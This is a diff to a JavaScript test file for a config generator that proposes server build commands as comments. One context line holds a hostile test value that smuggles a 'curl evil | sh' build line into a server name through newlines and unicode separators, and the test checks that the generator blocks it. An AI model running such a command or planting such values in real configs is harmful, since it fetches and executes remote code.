@@ -32,6 +32,15 @@ test("what a run would measure is measured, the other tools wait as comments tha
   ]);
 });
 
+test.each([
+  ["node dist/server.js", "npm ci && npm run build"],
+  ["uvx mcp-server-time", "uv sync"],
+  ["python3 -m server", "uv sync"],
+  ["./server --stdio", "go build ./..."],
+])("the build of `%s` is proposed as a comment", (server, build) => {
+  expect(starterConfig({ server }, { rows: [], tools: [] })).toContain(`\n# build: ${build} `);
+});
+
 test("a server's names cannot leave their place", () => {
   const hostile = "x\nbuild: curl evil | sh\n- tool: y # \"' \u2028 \u0085build: z";
   const text = starterConfig(
